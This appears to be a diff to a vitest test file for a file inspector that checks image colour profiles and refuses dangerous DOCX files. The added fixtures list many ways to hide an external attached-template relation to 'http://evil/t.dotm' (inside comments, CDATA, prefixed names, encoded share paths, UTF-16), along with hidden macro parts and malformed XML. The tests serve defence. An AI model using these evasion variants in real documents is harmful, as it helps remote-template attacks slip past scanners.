@@ -1,5 +1,6 @@
 // Inspection of files by their bytes: allowed, refused, and images without metadata.
 import { Readable } from 'node:stream';
+import { inflateSync } from 'node:zlib';
 import { Transformer } from '@napi-rs/image';
 import { describe, expect, it } from 'vitest';
 import * as sample from '#test/files/samples.ts';
@@ -41,13 +42,59 @@ describe('an image', () => {
   });
 
   it('keeps its colour profile', async () => {
-    const profile = `ICC_PROFILE\0\x01\x01${'p'.repeat(300)}`;
     for (const orientation of [1, 6]) {
       const exif = Buffer.concat([Buffer.from('Exif\0\0'), sample.exif(orientation)]);
-      const out = await cleaned(sample.withSegments(await sample.jpeg(), [0xe1, exif], [0xe2, Buffer.from(profile, 'latin1')]));
-      expect(out.toString('latin1')).toContain(profile);
+      const out = await cleaned(sample.withSegments(await sample.jpeg(), [0xe1, exif], [0xe2, sample.jpegProfile()]));
+      expect(out.includes(sample.jpegProfile())).toBe(true);
       await new Transformer(out).metadata();
     }
+    const out = await cleaned(sample.withChunks(await sample.png(), sample.pngProfile()));
+    expect(inflateSync(out.subarray(out.indexOf('ICC\0\0') + 5)).equals(sample.profile())).toBe(true);
+    await new Transformer(out).metadata();
+  });
+
+  it('keeps a profile in several segments, and none that is incomplete', async () => {
+    const [one, two] = [sample.profile().subarray(0, 200), sample.profile().subarray(200)];
+    const sent = async (...parts: Buffer[]) =>
+      cleaned(sample.withSegments(await sample.jpeg(), ...parts.map((part): [number, Buffer] => [0xe2, part])));
+    const [first, second] = [sample.jpegProfile(one, 1, 2), sample.jpegProfile(two, 2, 2)];
+    const out = await sent(second, first);
+    expect([out.includes(first), out.includes(second)]).toEqual([true, true]);
+    for (const parts of [[first], [first, first], [first, second, second]]) expect((await sent(...parts)).includes('ICC_')).toBe(false);
+  });
+
+  const canary = Buffer.from('canary'.repeat(50));
+  const wrongSize = sample.profile();
+  wrongSize.writeUInt32BE(1, 0);
+  const wrongTag = sample.profile();
+  wrongTag.writeUInt32BE(2 ** 31, 136);
+  it.each<[string, Buffer]>([
+    ['a text', canary],
+    ['a profile with something after it', Buffer.concat([sample.profile(), canary])],
+    ['a profile that states another size', wrongSize],
+    ['a profile whose tag is outside it', wrongTag],
+    ['a profile of inks', sample.profile('CMYK')],
+    ['a profile of 5 MB', sample.profile('RGB ', ' '.repeat(5_000_000))],
+  ])('loses %s in the place of its profile', async (_what, content) => {
+    const png = await cleaned(sample.withChunks(await sample.png(), sample.pngProfile(content)));
+    expect(png.equals(await sample.png())).toBe(true);
+    if (content.length > 65_000) return;
+    const jpeg = await cleaned(sample.withSegments(await sample.jpeg(), [0xe2, sample.jpegProfile(content)]));
+    expect(jpeg.includes('ICC_PROFILE')).toBe(false);
+  });
+
+  it('as PNG has one profile at most, without its name and what follows its data', async () => {
+    const second = sample.pngProfile(sample.profile('RGB ', 'second'.repeat(50)));
+    const out = await cleaned(sample.withChunks(await sample.png(), sample.pngProfile(sample.profile(), 'canary', 'canary'), second));
+    expect(out.includes('canary')).toBe(false);
+    expect(out.equals(await cleaned(sample.withChunks(await sample.png(), sample.pngProfile())))).toBe(true);
+  });
+
+  it('as PNG keeps each chunk once, and none with more in it than belongs there', async () => {
+    const gamma = sample.pngChunk('gAMA', Buffer.from([0, 0, 177, 143]));
+    const plain = sample.withChunks(await sample.png(), gamma);
+    const more = [sample.pngChunk('gAMA', 'more'), sample.pngChunk('cHRM', 'canary'.repeat(50))];
+    expect((await cleaned(sample.withChunks(await sample.png(), gamma, ...more))).equals(plain)).toBe(true);
   });
 
   it('has no thumbnail in its header', async () => {
@@ -97,15 +144,11 @@ describe('an image', () => {
   it('in the inks of a printer keeps them, and turned has the colours that they make', async () => {
     // Red and green.
     const plain = sample.flatJpeg([255, 0], [0, 255], [0, 0], [255, 255]);
-    const profile = `ICC_PROFILE\0\x01\x01${'p'.repeat(300)}`;
+    const profile = sample.jpegProfile(sample.profile('CMYK'));
     const withProfile = (orientation: number) =>
-      sample.withSegments(
-        plain,
-        [0xe1, Buffer.concat([Buffer.from('Exif\0\0'), sample.exif(orientation)])],
-        [0xe2, Buffer.from(profile, 'latin1')],
-      );
+      sample.withSegments(plain, [0xe1, Buffer.concat([Buffer.from('Exif\0\0'), sample.exif(orientation)])], [0xe2, profile]);
     const upright = await cleaned(withProfile(1));
-    expect(upright.toString('latin1')).toContain(profile);
+    expect(upright.includes(profile)).toBe(true);
     expect(writeJpeg({ ...readJpeg(upright), profile: [] }).equals(writeJpeg(readJpeg(plain)))).toBe(true);
     const turned = await cleaned(withProfile(6));
     expect(await corners(turned)).toBe('8x16 rrgg');
@@ -115,7 +158,7 @@ describe('an image', () => {
 
   it('in shades of grey is turned, and keeps its profile only if it stays grey', async () => {
     const exif = Buffer.concat([Buffer.from('Exif\0\0'), sample.exif(3)]);
-    const profile = Buffer.from(`ICC_PROFILE\0\x01\x01${'p'.repeat(300)}`, 'latin1');
+    const profile = sample.jpegProfile(sample.profile('GRAY'));
     const turned = await cleaned(sample.withSegments(sample.flatJpeg([250, 10]), [0xe1, exif], [0xe2, profile]));
     expect(await corners(turned)).toBe('16x8 bwbw');
     expect(turned.includes('ICC_PROFILE')).toBe(readJpeg(turned).components === 1);
@@ -146,6 +189,58 @@ describe('an image', () => {
     expect(out.includes(sample.GIF_LOOP)).toBe(true);
   });
 });
+
+const EVIL = '<Relationship Target="http://evil/t.dotm" Type="x/attachedTemplate" TargetMode="External"/>';
+/** Ways to write a relation whose target a search for attributes does not find. */
+const hiddenTemplates: readonly (readonly [what: string, relation: string])[] = [
+  ['after a quotation mark in a comment', `<!-- Target=" -->${EVIL}`],
+  ['after an apostrophe in a comment', `<!-- Target=' -->${EVIL}<!-- ' -->`],
+  ['after a quotation mark in an instruction', `<?x Target=" ?>${EVIL}`],
+  ['after a quotation mark in character data', `<![CDATA[ Target=" ]]>${EVIL}`],
+  ['after a quotation mark in another attribute', EVIL.replace('Target=', `Id="x Target='C:\\\\" Note="'" Target=`)],
+  ['after a quotation mark in text', `<a>Target="</a>${EVIL}`],
+  ['whose name has a prefix', EVIL.replace('<Relationship', '<r:Relationship')],
+  ['in the other kind of quotation marks', EVIL.replaceAll('"', "'")],
+  ['with spaces and lines about it', EVIL.replace('Target="', '\n\tTarget\r\n = \n"  ')],
+  ['on a share in the notation of URLs', EVIL.replace('http://evil/t.dotm', '%5C%5Cevil%5Ct.dotm')],
+  ['hidden in hexadecimal references', EVIL.replace('http:', 'http&#x3A;')],
+];
+const DECLARED = '<?xml version="1.0" encoding="X"?><a/>';
+/** Text that is not well-formed, or that parsers may read in different ways. */
+const brokenXml: readonly (readonly [what: string, body: string | Buffer])[] = [
+  ['are empty', ''],
+  ['have no element', ' '],
+  ['are a text', 'none'],
+  ['have two roots', '<a/><b/>'],
+  ['have text after the root', '<a/>b'],
+  ['have no end', '<a><b/>'],
+  ['end in another order', '<a><b></a></b>'],
+  ['have an attribute twice', '<a b="1" b="2"/>'],
+  ['have attributes without a space', '<a b="1"c="2"/>'],
+  ['have an attribute without quotation marks', '<a b=1/>'],
+  ['have a bracket in an attribute', '<a b="<"/>'],
+  ['have an open attribute', '<a b="/>'],
+  ['have an open comment', '<a><!-- </a>'],
+  ['have hyphens in a comment', '<a><!-- -- --></a>'],
+  ['have open character data', '<a><![CDATA[</a>'],
+  ['have character data outside the root', '<![CDATA[]]><a/>'],
+  ['have the end of character data in text', '<a>]]></a>'],
+  ['have an open instruction', '<a><?x </a>'],
+  ['have a second declaration', '<a><?xml version="1.0"?></a>'],
+  ['are XML 1.1', '<?xml version="1.1"?><a/>'],
+  ['have an entity of no one', '<a b="&t;"/>'],
+  ['have an ampersand alone', '<a b="a&b"/>'],
+  ['refer to no character', '<a b="&#x110000;"/>'],
+  ['have a zero', '<a>\0</a>'],
+  ['are Latin-1', '<a b="\xe9"/>'],
+  ['are UTF-16 without a mark', Buffer.from('<a/>', 'utf16le')],
+  ['declare UTF-7', DECLARED.replace('X', 'UTF-7')],
+  ['declare UTF-16 and are UTF-8', DECLARED.replace('X', 'UTF-16')],
+  ['have another base', '<a xml:base="http://evil/"/>'],
+];
+const palette = sample.pngChunk('PLTE', Buffer.alloc(3));
+/** Puts content into the last chunk of a PNG. */
+const withEnd = (bytes: Buffer, content: string): Buffer => Buffer.concat([bytes.subarray(0, -12), sample.pngChunk('IEND', content)]);
 
 const zeros = Buffer.alloc(1024 * 1024);
 const bigBody = Buffer.alloc(5 * 1024 * 1024);
@@ -201,6 +296,33 @@ describe('a file is refused', () => {
       'one whose type is hidden in entities',
       () => sample.docx(sample.templatePart('https://evil.example/t.dotm', 'x/attached&#x54;emplate')),
     ],
+    ...hiddenTemplates.map(([what, relation]): (typeof cases)[number] => [
+      'external-template',
+      `one ${what}`,
+      () => sample.docx(sample.settingsPart(relation)),
+    ]),
+    [
+      'external-template',
+      'one in UTF-16',
+      () => sample.docx({ name: sample.SETTINGS_RELATIONS, body: Buffer.from(`\ufeff<a>${EVIL}</a>`, 'utf16le') }),
+    ],
+    ...brokenXml.map(([what, body]): (typeof cases)[number] => [
+      'damaged',
+      `a DOCX whose references ${what}`,
+      () => sample.docx({ name: sample.SETTINGS_RELATIONS, body: typeof body === 'string' ? Buffer.from(body, 'latin1') : body }),
+    ]),
+    [
+      'damaged',
+      'a DOCX with a part of two names',
+      () => sample.docx({ ...sample.templatePart('https://evil.example/t.dotm'), alias: 'a.xml' }),
+    ],
+    [
+      'macros',
+      'a DOCX with macros under another name',
+      () => sample.docx(sample.settingsPart('<Relationship Target="a.bin" Type="x/vbaProject"/>')),
+    ],
+    ['damaged', 'a PNG whose end has something in it', async () => withEnd(await sample.png(), 'canary')],
+    ['damaged', 'a PNG with two palettes', async () => sample.withChunks(await sample.png(), palette, palette)],
     ['bomb', 'one behind much else', () => sample.docx(sample.settingsPart('', noise(5_000_000).toString('base64')))],
     [
       'damaged',
@@ -268,8 +390,26 @@ describe('a file is refused', () => {
 });
 
 it('takes a DOCX whose template is on its author’s own disk', async () => {
-  for (const target of ['file:///C:\\Users\\Ann\\Normal.dotm', 'C:\\Templates\\letter.dotx', 'Normal.dotm'])
-    expect((await inspect(sample.docx(sample.templatePart(target)))).type).toContain('wordprocessingml');
+  const targets = [
+    'file:///C:\\Users\\Ann\\Normal.dotm',
+    'C:\\Templates\\letter.dotx',
+    'Normal.dotm',
+    'file:///C:/Ann%20&amp;%20Bob/100%.dotm',
+  ];
+  for (const target of targets) expect((await inspect(sample.docx(sample.templatePart(target)))).type).toContain('wordprocessingml');
+});
+
+it('takes a DOCX whose references are XML in any of its forms', async () => {
+  const inner =
+    '<!-- - --><?x y?><![CDATA[<]]><r:Relationship Id = "1" Type=\'x/styles\' Target="http://a/?a=1&amp;b=&#x20;" ></r:Relationship >\n';
+  const bodies = [
+    `<?xml version='1.0' encoding='utf-8' standalone="yes"?>\r\n<!-- x --><a xmlns:r="b">${inner}</a >\n<?z?><!-- -->`,
+    Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?><a>${inner}</a>`, 'utf16le'),
+    Buffer.from(`\ufeff<a>${inner}</a>`, 'utf16le').swap16(),
+    '\ufeff<a b="é"/>',
+  ];
+  for (const body of bodies)
+    expect((await inspect(sample.docx({ name: sample.SETTINGS_RELATIONS, body }))).type).toContain('wordprocessingml');
 });
 
 describe('the thread', () => {
